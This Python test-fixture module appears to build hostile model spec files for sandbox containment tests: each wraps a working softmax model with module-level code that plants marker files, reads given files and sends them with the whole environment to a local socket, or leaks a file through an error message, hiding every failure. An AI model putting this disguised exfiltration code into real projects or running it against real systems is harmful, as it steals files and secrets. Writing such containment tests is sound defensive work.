"""Spec files that attack the machine that runs them, shared by the containment tests.

A spec is user code: the controller's probe, the generator's tracer and the evaluator run
it. Each of these specs is a working softmax whose module body first tries to reach what a
sandboxed child must never reach, swallowing every error so that it still looks healthy.
"""

from __future__ import annotations

from pathlib import Path

SOFTMAX = '''
import torch
import torch.nn as nn

rows = 8
cols = 32


class Model(nn.Module):
    def forward(self, x):
        return torch.softmax(x, dim=-1)


def get_inputs():
    return [torch.randn(rows, cols)]


def get_init_inputs():
    return []
'''


def snooping_spec(write_to: list[Path], read: list[Path], port: int) -> str:
    """Writes a marker into each of ``write_to``, reads each of ``read`` and sends what it
    found, with the environment, to a listener on 127.0.0.1:``port``; never fails."""
    attack = f'''
import os as _os, socket as _socket
_found = []
for _p in {[str(p) for p in write_to]!r}:
    try:
        open(_os.path.join(_p, "spec-was-here"), "w").write("x")
    except Exception:
        pass
for _p in {[str(p) for p in read]!r}:
    try:
        _found.append(open(_p).read())
    except Exception:
        pass
try:
    _c = _socket.create_connection(("127.0.0.1", {port}), timeout=2)
    _c.sendall(repr((_found, dict(_os.environ))).encode())
    _c.close()
except Exception:
    pass
'''
    return attack + SOFTMAX


def leaking_spec(read: Path) -> str:
    """Raises an error that carries the contents of ``read`` (if it can read it)."""
    return f'''
try:
    _data = open({str(read)!r}).read()
except Exception as _exc:
    _data = "unreadable"
raise RuntimeError("leaked: " + _data)
''' + SOFTMAX
